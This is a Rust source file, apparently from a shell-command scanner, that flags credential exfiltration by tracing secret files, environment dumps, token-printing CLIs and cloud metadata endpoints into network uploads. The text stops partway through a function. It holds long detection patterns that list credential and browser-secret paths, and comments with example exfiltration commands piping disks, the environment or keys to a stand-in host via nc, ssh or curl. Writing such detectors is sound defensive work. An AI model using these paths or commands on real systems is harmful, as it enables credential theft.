//! Credential exfiltration as data flow: a secret *source* (a key or credential file, the whole
//! environment, a secret-looking variable) reaching a network *sink* (an upload option of curl or
//! wget, a raw socket, scp/rsync to a remote host, ssh, a DNS lookup) — directly in argv, through a
//! pipe, or through a command substitution. Tokens sent as `Authorization` headers are normal and
//! are not sources.

use super::vocab::{is_bucket_object, is_remote_target, transfer_operands, SSH_VALUED_FLAGS};
use super::Hit;
use crate::shell::{Command, Script, Word};
use crate::text::lazy_regex::LazyRegex;
use regex::Regex;
use std::sync::OnceLock;

/// The kind of secret, which decides the rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Secret {
    Variable,
    Environment,
    File,
}

impl Secret {
    fn rule(self) -> &'static str {
        match self {
            Secret::File => "exfil.secret-file",
            Secret::Environment => "exfil.environment",
            Secret::Variable => "exfil.secret-variable",
        }
    }
}

/// A credential variable where it can only be leaving: a well-known service's key sent to a host
/// that is not the service's, or any credential on a raw socket or in a DNS name.
const VENDOR_KEY_ELSEWHERE: &str = "exfil.secret-variable-foreign";

/// Credential paths (the cheap regex engine first: a single `check` must not build the full
/// engine's automaton of this long pattern; see `LazyRegex`).
fn secret_file_re() -> &'static LazyRegex {
    static RE: OnceLock<LazyRegex> = OnceLock::new();
    RE.get_or_init(|| {
        LazyRegex::new(
            r"(^|/)\.ssh(/(id_[\w*?-]+|[\w.-]*_key|[\w.-]+\.pem|identity)?)?/?$|(^|/)\.aws(/credentials|/config)?/?$|\.config/(gh/hosts|glab-cli/config)\.yml$|(\.config|Library/Application Support)/(Slack|discord|Signal)/(Cookies|Local Storage|config\.json)(/|$)|(^|/)\.kube(/config)?/?$|\.docker/config\.json$|(^|/)\.(netrc|pgpass|npmrc|pypirc|git-credentials)$|(^|/)\.env(\.[\w.-]+)?$|^/etc/(shadow|gshadow|passwd|sudoers)$|(^|/)\.gnupg(/|$)|(^|/)\.password-store(/|$)|/proc/[^/\s]+/environ$|(^|/)\.(bash|zsh)_history$|(^|/)id_(rsa|dsa|ecdsa|ed25519)$|\.config/gcloud(/|$)|(^|/)\.oci/(config|[\w.-]+\.pem)$|\.azure(/|$)|(Chrome|Chromium|chromium|google-chrome|BraveSoftware|Brave-Browser|Microsoft Edge|microsoft-edge|Vivaldi|vivaldi|Opera|opera)/.*(Login Data|Cookies|Web Data|Local State)$|(\.mozilla/firefox|Firefox/Profiles|\.thunderbird)/.*(logins\.json|key[34]\.db|cookies\.sqlite|cert9\.db|signons\.sqlite)$|Library/Keychains(/|$)|\.local/share/keyrings(/|$)|(^|/)[\w.-]+\.(key|p12|pfx|jks|keystore|kdbx)$|/(var/)?run/secrets/|(^|/)terraform\.tfstate(\.backup)?$|(^|/)wallet\.dat$|(^|/)\.vault-token$|(^|/)\.bitcoin(/|$)|(^|/)[\w.-]*(private|priv|key)[\w.-]*\.pem$|(^|/)\.cargo/credentials(\.toml)?$|(^|/)\.terraform\.d/credentials\.tfrc\.json$|(^|/)\.m2/settings(-security)?\.xml$|(^|/)\.gem/credentials$|(^|/)\.composer/auth\.json$|(^|/)\.gradle/gradle\.properties$|(^|/)\.config/rclone/rclone\.conf$|(^|/)\.(s3cfg|boto|databrickscfg|my\.cnf)$|(^|/)\.config/hub$|(^|/)\.nuget/NuGet/NuGet\.Config$|(^|/)\.sbt/\.?credentials$|(^|/)\.config/doctl/config\.yaml$|(^|/)(\.ngrok2|\.config/ngrok)/ngrok\.yml$|(^|/)\.config/op(/|$)|(^|/)\.snowsql/config$|^/vault/secrets/|(^|/)\.claude/\.credentials\.json$|(^|/)\.codex/auth\.json$|(^|/)\.gemini/oauth_creds\.json$|(^|/)\.config/github-copilot/(hosts|apps)\.json$|(^|/)\.config/solana/[\w.-]*\.json$|(^|/)\.ethereum/keystore(/|$)|(^|/)\.yarnrc\.yml$|(^|/)\.fly/config\.yml$|(^|/)(com\.vercel\.cli|\.config/vercel|\.vercel)/auth\.json$|(^|/)\.config/netlify/config\.json$|(^|/)\.wrangler/config/default\.toml$|(^|/)\.config/configstore/firebase-tools\.json$|(^|/)\.config/hcloud/cli\.toml$|^/etc/ssh/ssh_host_[\w*?]+_key$|(^|/)config/(secrets\.ya?ml|master\.key|credentials\.yml\.enc)$|(^|/)\.(python|psql|mysql|sqlite|node_repl|irb|rediscli|lesshst|fish)_history$|(^|/)\.local/share/fish/fish_history$|(^|/)User/globalStorage/state\.vscdb$|^/proc/[^/]+/mem$|(^|/)\.cache/huggingface/(token|stored_tokens)$|(^|/)\.huggingface/token$|(^|/)\.kaggle/kaggle\.json$|(^|/)\.config/sops/age/keys\.txt$|(^|/)\.config/age/[\w.-]+$|(^|/)\.android/adbkey$|^/etc/kubernetes/((super-)?admin|controller-manager|scheduler|kubelet)\.conf$|^/etc/kubernetes/pki(/|$)|^/var/lib/kubelet/pki/|^/etc/rancher/(k3s/k3s|rke2/rke2)\.yaml$|(^|/)(\.mozilla/firefox|\.config/(google-chrome|chromium|BraveSoftware/Brave-Browser|microsoft-edge|vivaldi)(/Default)?|Library/Application Support/(Google/Chrome|Firefox|BraveSoftware/Brave-Browser|Microsoft Edge)(/Default|/Profiles)?)/?$",
            false,
        )
        .expect("static regex")
    })
}

fn secret_var_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"\$\{?([A-Za-z_][A-Za-z0-9_]*(TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY|SECRET_KEY|CREDENTIALS?|_KEY)[A-Za-z0-9_]*|AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID|AWS_SESSION_TOKEN)\b|\$\{\{\s*((?:secrets\.|github\.token\b)[A-Za-z0-9_]*)")
            .expect("static regex")
    })
}

/// An environment variable read by name in interpreter code (Python, Node, Ruby, Perl, PHP).
fn env_read_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r#"(?:os\.environ(?:\.get)?\s*[\[(]\s*|os\.getenv\(\s*|getenv\(\s*|process\.env\[\s*|ENV\[\s*|ENV\.fetch\(\s*|\$ENV\{\s*)['"]?([A-Za-z_][A-Za-z0-9_]*)|process\.env\.([A-Za-z_][A-Za-z0-9_]*)"#)
            .expect("static regex")
    })
}

/// A jq filter reading one environment variable: `env.NAME`, `$ENV.NAME`, `env["NAME"]` (not
/// a field called `env` of the input, `.env.NAME`).
fn jq_env_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r#"(?:\$ENV|(?:^|[^.\w$])env)\s*(?:\.\s*|\[\s*")([A-Za-z_][A-Za-z0-9_]*)"#)
            .expect("static regex")
    })
}

/// The home directory itself (`~`, `$HOME`, `/home/NAME`, `/root`).
/// A disk or partition device (`/dev/sda`, `/dev/nvme0n1p2`, `/dev/mapper/root`), not a
/// pseudo-device (`/dev/zero`, `/dev/stdin`).
fn is_disk_device(p: &str) -> bool {
    p.strip_prefix("/dev/").is_some_and(|d| {
        [
            "sd", "nvme", "vd", "hd", "xvd", "mmcblk", "disk", "mapper/", "md", "dm-",
        ]
        .iter()
        .any(|prefix| d.starts_with(prefix))
    })
}

fn is_home_dir(p: &str) -> bool {
    let p = p.trim_end_matches('/');
    matches!(p, "~" | "$HOME" | "${HOME}" | "/root")
        || p.strip_prefix("/home/")
            .is_some_and(|u| !u.is_empty() && !u.contains('/'))
}

/// Linux's PATH_MAX.
const PATH_MAX_BYTES: usize = 4096;

/// Does this path name a secret file?
fn is_secret_path(p: &str) -> bool {
    // No path longer than PATH_MAX opens (the kernel refuses it); a longer word is looked at
    // in its shorter pieces (the long pattern over a 900 KB `../../…` word took seconds).
    if p.len() > PATH_MAX_BYTES {
        return p
            .split(|c: char| c.is_whitespace() || "'\"=,;(){}".contains(c))
            .any(|piece| {
                !piece.is_empty() && piece.len() <= PATH_MAX_BYTES && is_secret_path(piece)
            });
    }
    let p = p.trim_start_matches(['@', '<']);
    // Committed templates of a `.env` (`.env.example`, `.env.sample`) hold no secrets.
    let base = p.rsplit('/').next().unwrap_or(p);
    if let Some(kind) = base.strip_prefix(".env.") {
        if matches!(
            kind,
            "example" | "sample" | "template" | "dist" | "defaults" | "tpl"
        ) {
            return false;
        }
    }
    // Every credential path but a bare key file name has a `.` or a `/` (most words have
    // neither: the long pattern is not even built for them).
    // A web address names no local file (a `file://` URL does and is read below).
    let remote = ["http://", "https://", "ftp://", "s3://", "gs://"]
        .iter()
        .any(|s| p.starts_with(s));
    if !p.contains(['.', '/']) {
        // A key file's bare name, or a variable that by convention names a credential file.
        if matches!(
            p.trim_start_matches('$').trim_matches(['{', '}']),
            "id_rsa"
                | "id_dsa"
                | "id_ecdsa"
                | "id_ed25519"
                | "KUBECONFIG"
                | "GOOGLE_APPLICATION_CREDENTIALS"
                | "AWS_SHARED_CREDENTIALS_FILE"
                | "AZURE_CLIENT_CERTIFICATE_PATH"
        ) && (p.starts_with('$') || p.starts_with("id_"))
        {
            return true;
        }
    } else if !remote && secret_file_re().is_match(p) {
        return true;
    }
    // Every file of a key directory (`for f in ~/.ssh/*`, `~/.aws/*`), or some of them
    // (`find ~/.ssh -type f -exec … {}`: the placeholder stands for each match).
    if let Some((dir, "*" | "*.*" | "id_*" | "{}")) = p.rsplit_once('/') {
        if matches!(
            dir.rsplit('/').next(),
            Some(".ssh" | ".aws" | ".gnupg" | ".kube" | ".docker")
        ) {
            return true;
        }
    }
    if glob_names_secret(p) {
        return true;
    }
    // A glob that selects key files wherever they are (`~/*.pem`, `**/id_*`).
    let base = p.rsplit('/').next().unwrap_or(p);
    base.contains('*')
        && (base.starts_with("id_")
            || [".pem", ".key", ".p12", ".pfx", ".kdbx", ".env"]
                .iter()
                .any(|x| base.ends_with(x)))
}

/// Credential files as a glob may name them (`~/.n?trc`, `${HOME}/.kub?/conf*`).
const GLOBBED_SECRETS: &[&str] = &[
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.ssh/id_ecdsa",
    "~/.ssh/id_dsa",
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.kube/config",
    "~/.docker/config.json",
    "~/.netrc",
    "~/.pgpass",
    "~/.npmrc",
    "~/.pypirc",
    "~/.git-credentials",
    "~/.config/gh/hosts.yml",
    "~/.vault-token",
    "~/.cargo/credentials.toml",
    "/etc/shadow",
    "~/.bash_history",
    "~/.zsh_history",
];

/// Does a glob select a credential file? Matched component by component against
/// [`GLOBBED_SECRETS`], home spellings as `~`; the last component must hold at least three
/// letters or digits of its own (`~/*` and `~/.*` are every file, judged elsewhere).
fn glob_names_secret(p: &str) -> bool {
    if !p.contains(['*', '?', '[']) {
        return false;
    }
    let last = p.rsplit('/').next().unwrap_or(p);
    if last.chars().filter(|c| c.is_ascii_alphanumeric()).count() < 3 {
        return false;
    }
    let rest = ["~", "$HOME", "${HOME}", "/root"]
        .iter()
        .find_map(|h| p.strip_prefix(h).filter(|r| r.starts_with('/')))
        .or_else(|| {
            p.strip_prefix("/home/")
                .and_then(|r| r.find('/').map(|at| &r[at..]))
        });
    let pattern = match rest {
        Some(r) => format!("~{r}"),
        None => p.to_string(),
    };
    let parts: Vec<&str> = pattern.split('/').collect();
    GLOBBED_SECRETS.iter().any(|s| {
        let names: Vec<&str> = s.split('/').collect();
        names.len() == parts.len()
            && parts
                .iter()
                .zip(&names)
                .all(|(pat, name)| crate::text::glob::matches(pat, name))
    })
}

/// Does this path, read by `cmd`, name a secret file? A relative path counts from the directory
/// the input moved to first (`cd ~/.aws && curl -d @credentials …`).
fn secret_at(cmd: &Command, p: &str) -> bool {
    if is_secret_path(p) {
        return true;
    }
    let bare = p.trim_start_matches(['@', '<']);
    if COPIES.with(|c| {
        let c = c.borrow();
        // `split KEY /tmp/p_` stages `/tmp/p_*`: each piece (`/tmp/p_aa`) is one.
        let piece = |p: &str| {
            c.iter().any(|x| {
                x.strip_suffix('*')
                    .is_some_and(|prefix| !prefix.is_empty() && p.starts_with(prefix))
            })
        };
        c.contains(bare)
            || piece(bare)
            || holds_copy(&c, bare)
            || cmd
                .cwd
                .as_deref()
                .is_some_and(|dir| c.contains(&crate::shell::state::resolve(dir, bare)))
    }) {
        return true;
    }
    cmd.cwd.as_deref().is_some_and(|dir| {
        !bare.is_empty()
            && !bare.contains("://")
            && is_secret_path(&crate::shell::state::resolve(dir, bare))
    })
}

/// A secret variable named in the text, if any.
pub(crate) fn secret_var(text: &str) -> Option<String> {
    if !text.contains('$') {
        return None;
    }
    // `${{ secrets.NPM_TOKEN }}` is a CI template: the runner pastes the secret in before the
    // shell starts.
    secret_var_re()
        .captures(text)
        .and_then(|c| c.get(1).or_else(|| c.get(3)))
        .map(|m| m.as_str().to_string())
}

/// Wrappers that run their command with the same output (`taskset -c 0 env`, `sudo env`): the
/// environment dump is still one.
const PASS_THROUGH: &[&str] = &[
    "nice", "taskset", "ionice", "chrt", "stdbuf", "timeout", "nohup", "time", "sudo", "doas",
    "setsid", "command", "exec", "builtin", "unbuffer", "setarch", "flock", "watch",
    // What xargs and parallel run inherits their environment (`xargs sh -c 'env | curl …'`).
    "xargs", "parallel",
];

/// What secret (if any) a command *outputs*: reading a secret file, dumping the environment,
/// or printing a secret variable.
fn command_source(script: &Script, cmd: &Command) -> Option<(Secret, String)> {
    let name = cmd.name();
    let args = cmd.args();
    if matches!(
        name,
        "env" | "printenv" | "set" | "export" | "declare" | "compgen"
    ) && args.iter().all(|a| a.text.starts_with('-'))
        && (cmd.wrapped_by.is_none()
            || cmd
                .wrappers
                .iter()
                .all(|w| PASS_THROUGH.contains(&w.as_str())))
    {
        return Some((
            Secret::Environment,
            format!("`{name}` (the whole environment)"),
        ));
    }
    // `dd if=/dev/sda | ssh h 'dd of=disk.img'`, `cat /dev/nvme0n1 | nc h 9`: a whole disk,
    // every file and key on it.
    let disk = match name {
        "dd" => args.iter().find_map(|a| a.text.strip_prefix("if=")),
        "cat" | "pv" | "gzip" | "zstd" | "xz" | "lz4" => args
            .iter()
            .map(|a| a.text.as_str())
            .find(|a| !a.starts_with('-')),
        _ => None,
    };
    if let Some(d) = disk.filter(|d| is_disk_device(d)) {
        return Some((Secret::File, format!("the raw disk {d} (every file on it)")));
    }
    // `awk 'BEGIN{for (k in ENVIRON) print k"="ENVIRON[k]}'`: every variable printed.
    if matches!(name, "awk" | "gawk" | "mawk" | "nawk" | "busybox")
        && args.iter().any(|a| {
            a.text
                .split_whitespace()
                .collect::<String>()
                .contains("inENVIRON)")
        })
    {
        return Some((
            Secret::Environment,
            format!("`{name}` over ENVIRON (the whole environment)"),
        ));
    }
    // `jq -n env`, `jq -n '$ENV'`: the whole environment as JSON.
    if name == "jq"
        && args
            .iter()
            .any(|a| a.text == "-n" || a.text == "--null-input")
        && args.iter().any(|a| {
            matches!(
                a.text.trim(),
                "env" | "$ENV" | "env|tostring" | "$ENV|tostring"
            )
        })
    {
        return Some((
            Secret::Environment,
            "`jq -n env` (the whole environment)".into(),
        ));
    }
    if let Some(r) = cmd
        .redirects
        .iter()
        .find(|r| r.op == "<" && secret_at(cmd, &r.target.text))
    {
        // `$(< ~/.ssh/id_rsa)` prints the file; so does any reader fed it.
        return Some((Secret::File, r.target.text.clone()));
    }
    let readers = [
        "cat", "head", "tail", "less", "more", "base64", "base32", "xxd", "od", "hexdump", "gzip",
        "bzip2", "xz", "zstd", "tar", "zip", "7z", "gpg", "openssl", "strings", "tac", "nl", "sed",
        "awk", "grep", "cut", "jq", "yq", "python", "python3", "perl", "ruby", "tr", "sort",
        "uniq", "sqlite3", "rev", "basenc", "uuencode", "iconv", "paste", "fold", "pr", "expand",
        "dd", "split", "shuf", "column", "fmt", "gawk", "mawk", "lz4", "brotli", "pigz",
    ];
    // An archive of the whole home directory carries every key and credential in it.
    if matches!(name, "tar" | "zip" | "7z" | "gtar" | "bsdtar" | "cpio") {
        if let Some(a) = args.iter().find(|a| is_home_dir(&a.text)) {
            return Some((Secret::File, format!("{} (the home directory)", a.text)));
        }
    }
    // `curl file://$HOME/.ssh/id_rsa`: a local file read through a URL.
    if matches!(name, "curl" | "wget" | "wget2" | "aria2c" | "lynx" | "w3m") {
        let local = |a: &&Word| {
            a.text
                .strip_prefix("file://")
                .and_then(|rest| rest.strip_prefix("localhost").or(Some(rest)))
                .is_some_and(|path| secret_at(cmd, path))
        };
        if let Some(a) = args.iter().find(local) {
            return Some((Secret::File, a.text.clone()));
        }
    }
    // `tar -C /etc -c shadow`: members named relative to the directory tar changes into.
    if let Some(p) = archive_member_paths(cmd)
        .into_iter()
        .find(|p| secret_at(cmd, p) || holds_host_keys(p))
    {
        return Some((Secret::File, p));
    }
    if readers.contains(&name) {
        // `dd if=~/.ssh/id_rsa` names its input after a key.
        let operand = |a: &&Word| {
            let path = a.text.strip_prefix("if=").unwrap_or(&a.text);
            !path.starts_with('-') && secret_at(cmd, path)
        };
        if let Some(a) = args.iter().find(operand) {
            let kind = if a.text.contains("/environ") {
                Secret::Environment
            } else {
                Secret::File
            };
            return Some((kind, a.text.clone()));
        }
    }
    if let Some(what) = credential_printer(name, args) {
        return Some((Secret::File, what));
    }
    // The shell's own history: every command typed, tokens pasted on command lines included.
    if name == "history"
        && args
            .iter()
            .all(|a| a.text.chars().all(|c| c.is_ascii_digit()))
    {
        return Some((Secret::File, "the shell history (`history`)".into()));
    }
    if let Some(what) = secret_search(name, args) {
        return Some((Secret::File, what));
    }
    if let Some(code) = interpreter_code(name, args) {
        if dumps_environment(code) {
            return Some((
                Secret::Environment,
                format!("`{name}` printing the whole environment"),
            ));
        }
    }
    if matches!(name, "echo" | "printf") {
        if let Some(v) = args.iter().find_map(|a| secret_var(&a.text)) {
            return Some((Secret::Variable, format!("${v}")));
        }
    }
    // `printenv GITHUB_TOKEN`: one named variable.
    if name == "printenv" {
        if let Some(v) = args
            .iter()
            .filter(|a| !a.text.starts_with('-'))
            .find_map(|a| secret_var(&format!("${}", a.text)))
        {
            return Some((Secret::Variable, format!("${v}")));
        }
    }
    // `jq -rn 'env.AWS_SECRET_ACCESS_KEY'`, `jq -n '$ENV.TOKEN'`, `jq -n env`: jq reads the
    // environment.
    if matches!(name, "jq" | "gojq" | "jaq") {
        let filters = args.iter().filter(|a| !a.text.starts_with('-'));
        for f in filters {
            let whole = matches!(
                f.text.trim(),
                "env" | "$ENV" | "env | tojson" | "$ENV | tojson"
            );
            if whole {
                return Some((
                    Secret::Environment,
                    format!("`{name}` printing the whole environment"),
                ));
            }
            if let Some(v) = jq_env_re()
                .captures_iter(&f.text)
                .find_map(|c| secret_var(&format!("${}", c.get(1)?.as_str())))
            {
                return Some((Secret::Variable, format!("${v}")));
            }
        }
    }
    // `python3 -c 'print(os.environ["TOKEN"])'`, `node -p process.env.NPM_TOKEN`.
    if let Some(code) = interpreter_code(name, args) {
        if let Some(v) = env_read_re().captures_iter(code).find_map(|c| {
            let var = c.get(1).or_else(|| c.get(2))?;
            secret_var(&format!("${}", var.as_str()))
        }) {
            return Some((Secret::Variable, format!("${v}")));
        }
    }
    if let Some(found) = remote_source(script, cmd) {
        return Some(found);
    }
    // A command printing a substitution that reads a secret.
    words_source(script, args)
}

/// `ssh host 'cat ~/.aws/credentials'`, `kubectl exec pod -- env`, `docker exec db cat
/// /run/secrets/pw`: what the command runs on the other end is printed here.
fn remote_source(script: &Script, cmd: &Command) -> Option<(Secret, String)> {
    let name = cmd.name();
    // `docker cp web:/app/.env -`: the container's file on stdout (a tar stream of it).
    if matches!(name, "docker" | "podman" | "nerdctl") {
        let positional = cmd.operands();
        if let ["cp", src, "-"] = positional[..] {
            let path = src.split_once(':').map_or(src, |(_, p)| p);
            if is_secret_path(path) {
                return Some((Secret::File, format!("{src} (copied out of the container)")));
            }
        }
        if positional.first() == Some(&"cp") {
            return None;
        }
    }
    if !matches!(
        name,
        "ssh"
            | "autossh"
            | "mosh"
            | "dbclient"
            | "docker"
            | "podman"
            | "nerdctl"
            | "kubectl"
            | "oc"
    ) {
        return None;
    }
    script
        .commands
        .iter()
        .filter(|c| {
            c.depth > cmd.depth
                && c.via.is_some()
                && c.span.0 >= cmd.span.0
                && c.span.1 <= cmd.span.1
                && !matches!(c.name(), "ssh" | "docker" | "podman" | "kubectl" | "oc")
        })
        .find_map(|c| command_source(script, c))
        .map(|(kind, what)| (kind, format!("{what} (printed through `{name}`)")))
}

/// Commands that find secrets rather than read a named file: `find ~/.ssh` (its list feeds
/// uploads), `grep -r AKIA ~` (key material by pattern), and the cloud metadata service's
/// credential endpoints.
fn secret_search(name: &str, args: &[Word]) -> Option<String> {
    match name {
        "find" => args
            .iter()
            .take_while(|a| !a.text.starts_with('-'))
            .find(|a| is_secret_path(&a.text))
            .map(|a| format!("the files under {}", a.text))
            .or_else(|| {
                // `find ~ -name '*.pem'`, `find / -name id_rsa`: key files by name.
                args.windows(2)
                    .find(|w| {
                        matches!(
                            w[0].text.as_str(),
                            "-name" | "-iname" | "-path" | "-wholename"
                        ) && (is_secret_path(&w[1].text)
                            || glob_names_secret(&w[1].text)
                            || w[1].text.starts_with(".env"))
                    })
                    .map(|w| format!("the files named {}", w[1].text))
            }),
        "grep" | "egrep" | "rg" | "ag" => {
            let recursive = name != "grep"
                || args.iter().any(|a| {
                    a.text.starts_with('-')
                        && !a.text.starts_with("--")
                        && a.text.contains(['r', 'R'])
                });
            let pattern = args.iter().find(|a| {
                let t = a.text.as_str();
                [
                    "AKIA",
                    "ghp_",
                    "gh[",
                    "github_pat",
                    "glpat",
                    "npm_",
                    "PRIVATE KEY",
                    "xox",
                    "sk-",
                    "aws_secret",
                    "secret_access",
                    "api_key",
                    "password",
                ]
                .iter()
                .any(|k| t.contains(k))
            });
            (recursive && pattern.is_some()).then(|| {
                format!(
                    "a search for key material (`{name} … {}`)",
                    pattern.map(|p| p.text.as_str()).unwrap_or("")
                )
            })
        }
        "curl" | "wget" => args
            .iter()
            .find(|a| {
                let t = a.text.as_str();
                [
                    "169.254.169.254",
                    "metadata.google.internal",
                    "100.100.100.200",
                    "169.254.170.2",
                    "fd00:ec2::254",
                    "//instance-data/",
                    "//instance-data.ec2.internal/",
                ]
                .iter()
                .any(|h| t.contains(h))
                    && (t.contains("security-credentials")
                        || t.contains("service-accounts/")
                        || t.contains("identity/oauth2/token")
                        || t.contains("/user-data")
                        || t.contains("/v2/credentials"))
            })
            .map(|a| format!("cloud credentials from the metadata service ({})", a.text)),
        _ => None,
    }
}

/// The inline program of `python -c`, `node -e|-p`, `ruby -e`, `perl -e`, `php -r`.
fn interpreter_code<'a>(name: &str, args: &'a [Word]) -> Option<&'a str> {
    let interp = ["python", "node", "ruby", "perl", "php", "deno", "bun"]
        .iter()
        .any(|p| name.starts_with(p));
    if !interp {
        return None;
    }
    let i = args.iter().position(|a| {
        matches!(
            a.text.as_str(),
            "-c" | "-e" | "-p" | "-r" | "-E" | "--eval" | "--print"
        )
    })?;
    args.get(i + 1).map(|w| w.text.as_str())
}

/// Code that prints the whole environment (`print(os.environ)`, `JSON.stringify(process.env)`,
/// `ENV.to_h`, `getenv()`, `%ENV`), not one named variable of it.
fn dumps_environment(code: &str) -> bool {
    let whole = |marker: &str, named: &[&str]| {
        code.match_indices(marker).any(|(i, m)| {
            let rest = &code[i + m.len()..];
            !named.iter().any(|n| rest.starts_with(n))
        })
    };
    whole("os.environ", &["[", ".get", "."])
        || whole("process.env", &[".", "["])
        || whole("ENV.", &["[", "fetch", "key?", "include?"])
        || code.contains("getenv()")
        || whole("%ENV", &["{"])
        || code.contains("Deno.env.toObject")
}

/// Commands whose output *is* a credential: tokens printed by CLIs, stored git credentials.
pub(crate) fn credential_printer(name: &str, args: &[Word]) -> Option<String> {
    let text: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
    let has = |w: &str| text.contains(&w);
    let secretish = |t: &&str| {
        let l = t.to_ascii_lowercase();
        [
            "credential",
            "token",
            "password",
            "secret",
            "auth",
            "extraheader",
        ]
        .iter()
        .any(|k| l.contains(k))
    };
    let hit = match name {
        "git" => {
            (has("config")
                && (has("--get-regexp")
                    || has("--get")
                    || has("--get-all")
                    || has("-l")
                    || has("--list"))
                && (text.iter().any(secretish) || has("-l") || has("--list")))
                || (has("credential") && (has("fill") || has("get")))
        }
        "gh" | "glab" => {
            has("auth") && (has("token") || (has("status") && (has("-t") || has("--show-token"))))
        }
        "npm" | "pnpm" | "yarn" => {
            has("config") && has("get") && text.iter().any(|t| t.contains("_auth"))
        }
        "aws" => {
            (has("configure") && (has("export-credentials") || text.iter().any(secretish)))
                || has("get-session-token")
                || has("assume-role")
                || has("assume-role-with-web-identity")
                || has("assume-role-with-saml")
                || has("get-federation-token")
                || has("get-login-password")
                || has("get-authorization-token")
                || has("get-secret-value")
                || ((has("get-parameter")
                    || has("get-parameters")
                    || has("get-parameters-by-path"))
                    && has("--with-decryption"))
        }
        "gcloud" => {
            text.iter()
                .any(|t| t.starts_with("print-") && t.contains("token"))
                || (has("secrets") && has("access"))
        }
        // Decrypting tools print the plaintext of an encrypted secrets file.
        "sops" => has("-d") || has("--decrypt") || has("decrypt"),
        "age" | "rage" => has("-d") || has("--decrypt"),
        "ansible-vault" => has("view") || (has("decrypt") && has("--output") && has("-")),
        "doppler" | "infisical" => has("secrets") || has("export"),
        "az" => has("get-access-token"),
        "security" => {
            has("find-generic-password") || has("find-internet-password") || has("dump-keychain")
        }
        "kubectl" | "oc" => {
            (has("config") && has("view") && has("--raw"))
                || (has("get") && (has("secret") || has("secrets")))
                || (has("create") && has("token"))
        }
        "heroku" => has("config") || has("config:get") || has("auth:token"),
        "gpg" | "gpg2" => {
            text.iter().any(|t| t.starts_with("--export-secret")) || has("-d") || has("--decrypt")
        }
        "docker" | "podman" => {
            (has("inspect") && !has("--format") && !has("-f"))
                || text.iter().any(|t| t.contains(".Config.Env"))
                || (has("exec")
                    && text
                        .last()
                        .is_some_and(|t| matches!(*t, "env" | "printenv")))
        }
        "ps" => text
            .first()
            .is_some_and(|t| !t.starts_with('-') && t.contains('e') && t.contains('w')),
        "systemctl" => has("show-environment"),
        "op" => has("read") || (has("item") && has("get")),
        "secret-tool" => has("lookup") || has("search"),
        "bw" => has("get") || has("export") || (has("list") && has("items")),
        "pass" | "gopass" => {
            has("show")
                || text.first().is_some_and(|t| {
                    !t.starts_with('-')
                        && !matches!(
                            *t,
                            "ls" | "list"
                                | "init"
                                | "git"
                                | "insert"
                                | "generate"
                                | "edit"
                                | "rm"
                                | "mv"
                                | "cp"
                                | "find"
                                | "grep"
                                | "help"
                                | "version"
                        )
                })
        }
        "lpass" | "keepassxc-cli" => has("show") || has("export"),
        "kwallet-query" => text.iter().any(|t| *t == "-r" || *t == "--read-password"),
        "vault" => has("read") || (has("kv") && has("get")) || has("token"),
        n if n.starts_with("docker-credential-") => has("get") || has("list"),
        _ => false,
    };
    hit.then(|| format!("`{name} {}` (prints credentials)", text.join(" ")))
}

/// A token printed by a vendor's CLI (`gh auth token`, `gcloud auth print-access-token`) sent in
/// a header is ordinary use when the request goes to that vendor, or when the printer's vendor
/// cannot be told from the host (a cluster, a vault); to any other host it is exfiltration.
fn printed_for_its_vendor(what: &str, payload: &[&Word]) -> bool {
    let printer = what
        .trim_start_matches('`')
        .split_whitespace()
        .next()
        .unwrap_or("");
    let vendors: &[&str] = match printer {
        "gh" => &["github"],
        "glab" => &["gitlab"],
        "gcloud" => &[
            "googleapis",
            "google",
            "gcr.io",
            "pkg.dev",
            ".run.app",
            "cloudfunctions.net",
            "appspot.com",
        ],
        "az" => &["azure", "microsoft", "windows.net", "azurecr.io"],
        "aws" => &["amazonaws", "aws"],
        "npm" | "pnpm" | "yarn" => &["npmjs", "yarnpkg", "npm.pkg.github.com"],
        "heroku" => &["heroku"],
        _ => return true,
    };
    let hosts: Vec<String> = payload.iter().filter_map(|w| url_host(&w.text)).collect();
    hosts.is_empty()
        || hosts
            .iter()
            .all(|h| is_loopback(h) || vendors.iter().any(|v| h.contains(v)))
}

/// A secret reaching these words: a secret variable, a secret file path, or a substitution whose
/// commands read a secret.
fn words_source(script: &Script, words: &[Word]) -> Option<(Secret, String)> {
    let mut best: Option<(Secret, String)> = None;
    for w in words {
        for &s in &w.subs {
            for c in script.commands_within(s) {
                // `-F "f=@$(ls ~/.ssh/id_* | head -1)"`: the path of a key, which the sender
                // then reads.
                let named = matches!(
                    c.name(),
                    "ls" | "find" | "echo" | "printf" | "realpath" | "readlink"
                )
                .then(|| c.args().iter().find(|a| is_secret_path(&a.text)))
                .flatten()
                .map(|a| (Secret::File, a.text.clone()));
                if let Some(found) = command_source(script, c).or(named) {
                    if best.as_ref().is_none_or(|b| found.0 > b.0) {
                        best = Some(found);
                    }
                }
            }
        }
        // `'$GITHUB_TOKEN'` in single quotes is those characters, not the token.
        if let Some(v) = secret_var(&w.text).filter(|_| w.dynamic) {
            if best.is_none() {
                best = Some((Secret::Variable, format!("${v}")));
            }
        }
    }
    best
}

/// How a network command sends data.
struct SinkArgs<'a> {
    /// Words whose content is sent (bodies, uploaded files, URLs with query strings).
    payload: Vec<&'a Word>,
    /// Files it uploads by path.
    files: Vec<String>,
    /// It sends its standard input.
    reads_stdin: bool,
    /// Header, credential and cookie values: a service's own token belongs there, the content of
    /// a secret file does not.
    meta: Vec<&'a Word>,
    /// Human name of the sink.
    what: String,
    /// curl's `-K FILE` / `--config FILE`: more options read from a file (`-` is stdin).
    config: Option<String>,
}

/// Where a backup tool writes and which local paths it reads: `(repository, paths)`.
fn backup_destination(name: &str, args: &[Word]) -> Option<(String, Vec<String>)> {
    let flag_value = |flags: &[&str]| {
        args.windows(2)
            .find(|w| flags.contains(&w[0].text.as_str()))
